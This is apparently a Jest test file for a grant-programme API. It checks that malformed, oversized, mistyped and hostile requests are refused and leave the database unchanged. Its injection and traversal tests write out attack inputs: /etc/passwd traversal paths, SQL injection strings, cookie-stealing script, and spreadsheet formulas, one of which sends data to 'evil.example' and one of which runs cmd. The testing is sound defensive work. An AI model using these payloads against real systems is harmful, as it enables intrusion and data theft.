// Hostile input over HTTP, by hand, beside the fuzzer: malformed and oversized bodies, wrong content
// types, unknown fields, bad amounts and dates, odd Unicode, path traversal, injection. Each is
// answered with a 4xx in the one problem+json format, and the database is unchanged after it.
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { draftBody, programmeBody } from '../helpers/fixtures';
import { type ApiResponse, type TestSystem, startSystem } from '../helpers/system';
import { snapshotTables } from '../helpers/db';

let sys: TestSystem;
let officer: { id: string; key: string };
let applicant: { id: string; key: string };
let programmeId: string;
let draftId: string;

beforeAll(async () => {
  sys = await startSystem();
  officer = await sys.user('officer');
  applicant = await sys.user('applicant');
  programmeId = (await sys.call('POST', '/programmes', { key: officer.key, body: programmeBody() })).body.id;
  draftId = (await sys.call('POST', '/applications', { key: applicant.key, body: draftBody(programmeId) })).body.id;
});
afterAll(async () => {
  await sys?.stop();
});

type Call = { method: string; path: string; key?: string; body?: unknown; headers?: Record<string, string> };

/** Sends a request that must be refused: a 4xx problem+json with the status and code given, and no change to any table. */
async function refused(c: Call, status: number, code: string): Promise<ApiResponse> {
  const before = await snapshotTables(sys.db.prisma);
  const res = await sys.call(c.method, c.path, { key: c.key, body: c.body, headers: c.headers });
  const after = await snapshotTables(sys.db.prisma);
  expect({ call: `${c.method} ${c.path}`, status: res.status, code: res.body?.code }).toEqual({ call: `${c.method} ${c.path}`, status, code });
  expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  expect(res.body).toMatchObject({ type: `urn:programme-flow:problem:${code}`, status, title: expect.any(String) });
  expect(after).toEqual(before);
  return res;
}

const asApplicant = (body: unknown, headers?: Record<string, string>): Call => ({ method: 'POST', path: '/applications', key: applicant.key, body, headers });
const asOfficer = (body: unknown): Call => ({ method: 'POST', path: '/programmes', key: officer.key, body });

describe('malformed, oversized and mistyped bodies', () => {
  it.each([
    ['truncated JSON', '{"programmeId": "'],
    ['a trailing comma', '{"title": "x",}'],
    ['single quotes', "{'title': 'x'}"],
    ['a bare string', '"just a string"'],
    ['null', 'null'],
    ['NaN', '{"requestedFen": NaN}'],
  ])('refuses %s with 400', async (_what, text) => {
    await refused(asApplicant(text), 400, 'BadRequest');
  });

  it('refuses JSON that is not an object where one is expected', async () => {
    await refused(asApplicant('[]'), 400, 'ValidationFailed');
    await refused(asApplicant('[1, 2]'), 400, 'ValidationFailed');
  });

  it('refuses a body over 100 kB with 413, whatever its content', async () => {
    await refused(asApplicant({ ...draftBody(programmeId), summary: 'x'.repeat(101 * 1024) }), 413, 'PayloadTooLarge');
    await refused(asApplicant(`{"a":"${'y'.repeat(200 * 1024)}`), 413, 'PayloadTooLarge');
  });

  it('answers a URL or headers over 16 kB, which Node refuses before Express, in the same format', async () => {
    const before = await snapshotTables(sys.db.prisma);
    const long = await fetch(`${sys.baseUrl}/applications?q=${'a'.repeat(20_000)}`, { headers: { authorization: `Bearer ${officer.key}` } });
    expect(long.status).toBe(431);
    expect(long.headers.get('content-type')).toBe('application/problem+json');
    expect(await long.json()).toMatchObject({ status: 431, code: 'HeadersTooLarge', type: 'urn:programme-flow:problem:HeadersTooLarge' });
    const header = await fetch(`${sys.baseUrl}/me`, { headers: { authorization: `Bearer ${officer.key}`, 'x-padding': 'p'.repeat(20_000) } });
    expect(header.status).toBe(431);
    expect(await snapshotTables(sys.db.prisma)).toEqual(before);
  });

  it('refuses a body that is not application/json with 415', async () => {
    const json = JSON.stringify(draftBody(programmeId));
    await refused(asApplicant(json, { 'content-type': 'text/plain' }), 415, 'UnsupportedMediaType');
    await refused(asApplicant('programmeId=x&title=y', { 'content-type': 'application/x-www-form-urlencoded' }), 415, 'UnsupportedMediaType');
    await refused(asApplicant('<application/>', { 'content-type': 'application/xml' }), 415, 'UnsupportedMediaType');
    await refused(asApplicant(json, { 'content-type': 'application/json; charset=koi8-r' }), 415, 'UnsupportedMediaType');
    // UTF-8 bytes labelled UTF-16 decode to nonsense: not valid JSON.
    await refused(asApplicant(json, { 'content-type': 'application/json; charset=utf-16' }), 400, 'BadRequest');
    const noBody = await sys.call('POST', '/applications', { key: applicant.key });
    expect(noBody).toMatchObject({ status: 415, body: { code: 'UnsupportedMediaType' } });
  });
});

describe('unknown fields are refused everywhere, not ignored', () => {
  it('in bodies, nested objects and configurations', async () => {
    await refused(asApplicant({ ...draftBody(programmeId), applicantId: officer.id }), 400, 'ValidationFailed');
    await refused(asApplicant({ ...draftBody(programmeId), stage: 'awarded' }), 400, 'ValidationFailed');
    await refused({ method: 'PATCH', path: `/applications/${draftId}`, key: applicant.key, body: { title: 'New', awardFen: 1 } }, 400, 'ValidationFailed');
    const p = programmeBody();
    await refused(asOfficer({ ...p, config: { ...p.config, review: { ...p.config.review, secretBackdoor: true } } }), 400, 'ValidationFailed');
    await refused({ method: 'PUT', path: `/programmes/${programmeId}/config`, key: officer.key, body: { ...p.config, extra: 1 } }, 400, 'ValidationFailed');
  });

  it('in query strings, on routes with filters and on routes without any', async () => {
    await refused({ method: 'GET', path: '/applications?programmeId=' + programmeId + '&isAdmin=true', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/me?debug=1', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/inbox?role=admin', key: applicant.key }, 400, 'ValidationFailed');
  });

  it('in bodies sent to actions that take none', async () => {
    await refused({ method: 'POST', path: `/applications/${draftId}/submit`, key: applicant.key, body: { stage: 'awarded' } }, 400, 'ValidationFailed');
    await refused({ method: 'POST', path: `/applications/${draftId}/submit`, key: applicant.key, body: [] }, 400, 'ValidationFailed');
  });
});

describe('amounts: integer fen, never negative, fractional or beyond 2^53', () => {
  it.each([
    ['negative', -1],
    ['fractional', 1.5],
    ['a tenth of a fen', 0.1],
    ['2^53', 2 ** 53],
    ['huge', 1e30],
    ['a string', '800000000'],
    ['a boolean', true],
    ['null', null],
  ])('refuses a %s requested amount', async (_what, requestedFen) => {
    await refused(asApplicant({ ...draftBody(programmeId), requestedFen }), 400, 'ValidationFailed');
  });

  it('refuses amounts beyond any float in raw JSON (1e400 reads as Infinity)', async () => {
    await refused(asApplicant(JSON.stringify(draftBody(programmeId)).replace('800000000', '1e400')), 400, 'ValidationFailed');
    await refused(asApplicant(JSON.stringify(draftBody(programmeId)).replace('800000000', '-0.0000001')), 400, 'ValidationFailed');
  });

  it('refuses a negative or fractional budget, and bad amounts in query filters', async () => {
    await refused(asOfficer(programmeBody({ budgetFen: -100 })), 400, 'ValidationFailed');
    await refused(asOfficer(programmeBody({ budgetFen: 99.99 })), 400, 'ValidationFailed');
    for (const v of ['-1', '1.5', '1e3', '0x10', '', '%2012', '99999999999999999', 'NaN']) {
      await refused({ method: 'GET', path: `/applications?minFen=${v}`, key: officer.key }, 400, 'ValidationFailed');
    }
    await refused({ method: 'GET', path: '/programmes?limit=0', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/programmes?limit=201', key: officer.key }, 400, 'ValidationFailed');
  });

  it('keeps the largest safe amount exact', async () => {
    const res = await sys.call('POST', '/applications', { key: applicant.key, body: draftBody(programmeId, { requestedFen: Number.MAX_SAFE_INTEGER }) });
    expect(res.status).toBe(201);
    expect(res.body.requestedFen).toBe(Number.MAX_SAFE_INTEGER);
    const stored = await sys.db.prisma.application.findUniqueOrThrow({ where: { id: res.body.id } });
    expect(stored.requestedFen).toBe(9007199254740991n);
  });
});

describe('dates', () => {
  it.each([
    ['30 February', '2026-02-30T00:00:00+08:00'],
    ['29 February of a common year', '2027-02-29T00:00:00+08:00'],
    ['31 April', '2026-04-31T00:00:00Z'],
    ['month 13', '2026-13-01T00:00:00Z'],
    ['hour 24', '2026-03-01T24:00:00Z'],
    ['an offset of 25 hours', '2026-03-01T00:00:00+25:00'],
    ['no offset', '2026-03-01T00:00:00'],
    ['year 0000', '0000-01-01T00:00:00Z'],
    ['year 9999', '9999-12-31T23:59:59Z'],
    ['a six-digit year', '+275760-09-13T00:00:00Z'],
    ['a date alone', '2026-03-01'],
    ['epoch milliseconds', 1772323200000],
    ['words', 'next Tuesday'],
  ])('refuses %s', async (_what, closesAt) => {
    await refused(asOfficer(programmeBody({ closesAt })), 400, 'ValidationFailed');
  });

  it('refuses impossible dates in filters too', async () => {
    await refused({ method: 'GET', path: '/applications?dueBefore=2026-02-30T00:00:00Z', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/milestones?dueAfter=9999-01-01T00:00:00Z', key: officer.key }, 400, 'ValidationFailed');
  });
});

describe('odd Unicode', () => {
  it.each([
    ['a right-to-left override', 'Invoice \u202Egnp.exe'],
    ['a left-to-right isolate', 'Team \u2066Wang\u2069'],
    ['a zero-width space', 'Sol\u200Bid-state'],
    ['NUL', 'Battery\u0000'],
    ['a bell', 'Battery\u0007'],
    ['a C1 control', 'Battery\u0085'],
    ['a byte-order mark', '\uFEFFBattery'],
    ['a lone high surrogate', 'Battery \uD800'],
    ['a lone low surrogate', '\uDC00 Battery'],
  ])('refuses %s in a title', async (_what, title) => {
    const res = await refused(asApplicant({ ...draftBody(programmeId), title }), 400, 'ValidationFailed');
    expect(res.body.errors).toEqual([expect.objectContaining({ path: 'body.title' })]);
  });

  it('refuses them in team members, in keys, in query strings and in path segments', async () => {
    await refused(asApplicant({ ...draftBody(programmeId), members: ['Li Na', 'Zhou\u202EQiang'] }), 400, 'ValidationFailed');
    await refused(asApplicant({ ...draftBody(programmeId), ['title\u0000']: 'x' }), 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/applications?q=%E2%80%AEabc', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/applications/%00', key: officer.key }, 400, 'ValidationFailed');
  });

  it('refuses a title over its length, and undecodable percent-encoding in a path', async () => {
    await refused(asApplicant({ ...draftBody(programmeId), title: '长'.repeat(301) }), 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/applications/%FF%FE', key: officer.key }, 400, 'BadRequest');
  });

  it('keeps Chinese, emoji (with joiners) and accents exactly as sent', async () => {
    const title = '固态电池中试线 🔋👩‍🔬 Café — “pilot”';
    const res = await sys.call('POST', '/applications', { key: applicant.key, body: draftBody(programmeId, { title, members: ['李娜', 'Zoë'] }) });
    expect(res.status).toBe(201);
    const back = await sys.call('GET', `/applications/${res.body.id}`, { key: applicant.key });
    expect(back.body.title).toBe(title);
    expect(back.body.members).toEqual(['李娜', 'Zoë']);
  });
});

describe('path traversal', () => {
  it.each([
    ['GET', '/programmes/..%2F..%2Fetc%2Fpasswd/report/export', 400, 'ValidationFailed'],
    ['GET', '/programmes/..%5C..%5Cwindows/ledger', 400, 'ValidationFailed'],
    ['GET', '/stations/..%252F..%252Fetc/passwd', 404, 'NotFound'],
    // The client itself resolves a literal (or %2e-encoded) dot segment before sending.
    ['GET', '/programmes/%2e%2e/ledger/export', 404, 'NotFound'],
  ] as const)('refuses %s %s', async (method, path, status, code) => {
    await refused({ method, path, key: officer.key }, status, code);
  });

  it('refuses a traversal in a tranche code', async () => {
    const finance = await sys.user('finance');
    await refused({ method: 'POST', path: `/applications/${draftId}/tranches/..%2F..%2Fsecret/approve`, key: finance.key, body: {} }, 400, 'ValidationFailed');
  });

  it('takes no file name from the caller: exports are named by the server alone', async () => {
    await refused({ method: 'GET', path: '/applications/export?format=../../etc/passwd', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: '/applications/export?filename=../../etc/passwd', key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: `/programmes/${programmeId}/ledger/export?format=csv%00.exe`, key: officer.key }, 400, 'ValidationFailed');
    for (const path of ['/applications/export', `/programmes/${programmeId}/ledger/export?format=xlsx`, `/programmes/${programmeId}/report/export`]) {
      const res = await fetch(sys.baseUrl + path, { headers: { authorization: `Bearer ${officer.key}` } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z-]+\.(csv|xlsx)"$/);
      await res.arrayBuffer();
    }
  });
});

describe('injection', () => {
  it('treats SQL in filters and free text as text', async () => {
    for (const q of ["' OR 1=1 --", '"; DROP TABLE "Application"; --', "') UNION SELECT * FROM ApiKey --"]) {
      const res = await sys.call('GET', `/applications?q=${encodeURIComponent(q)}`, { key: officer.key });
      expect(res.status).toBe(200);
      expect(res.body.items).toEqual([]);
    }
    await refused({ method: 'GET', path: `/applications?stage=${encodeURIComponent("draft' OR '1'='1")}`, key: officer.key }, 400, 'ValidationFailed');
    await refused({ method: 'GET', path: `/applications?sort=${encodeURIComponent('title; DROP TABLE x')}`, key: officer.key }, 400, 'ValidationFailed');
    expect(await sys.db.prisma.application.count()).toBeGreaterThan(0);
  });

  it('returns HTML and script in titles as JSON text, never as a page', async () => {
    const title = '<script>alert(document.cookie)</script><img src=x onerror=alert(1)>';
    const res = await sys.call('POST', '/applications', { key: applicant.key, body: draftBody(programmeId, { title }) });
    expect(res.status).toBe(201);
    const back = await sys.call('GET', `/applications/${res.body.id}`, { key: applicant.key });
    expect(back.body.title).toBe(title);
    expect(back.headers.get('content-type')).toMatch(/^application\/json/);
    expect(back.headers.get('x-content-type-options')).toBe('nosniff');
    expect(back.headers.get('content-security-policy')).toContain("default-src 'none'");
  });

  it('neutralises spreadsheet formulas in CSV and XLSX exports', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
    const p = (await sys.call('POST', '/programmes', { key: officer.key, body: programmeBody() })).body.id;
    for (const [i, title] of evil.entries()) {
      const res = await sys.call('POST', '/applications', { key: applicant.key, body: draftBody(p, { title, unitName: i === 0 ? '=cmd' : 'Unit' }) });
      expect(res.status).toBe(201);
    }
    const csv = await fetch(`${sys.baseUrl}/applications/export?programmeId=${p}`, { headers: { authorization: `Bearer ${officer.key}` } });
    const rows = parse(await csv.text(), { columns: true, bom: true, relax_column_count: true }) as Array<Record<string, string>>;
    // Titles are trimmed when stored, so a leading tab or carriage return is gone; the = is not.
    const stored = evil.map((t) => `'${t.trim()}`).sort();
    expect(rows.map((r) => r.Title).sort()).toEqual(stored);
    expect(rows.map((r) => r['Host unit'])).toContain("'=cmd");
    expect(rows.every((r) => /^\d+$/.test(r['Requested (fen)']!))).toBe(true);

    const xlsx = await fetch(`${sys.baseUrl}/applications/export?programmeId=${p}&format=xlsx`, { headers: { authorization: `Bearer ${officer.key}` } });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
    const sheet = book.worksheets[0]!;
    const titles: unknown[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) titles.push(row.getCell(2).value);
    });
    expect(titles.map(String).sort()).toEqual(stored);
    expect(titles.every((t) => typeof t === 'string')).toBe(true);
  });
});
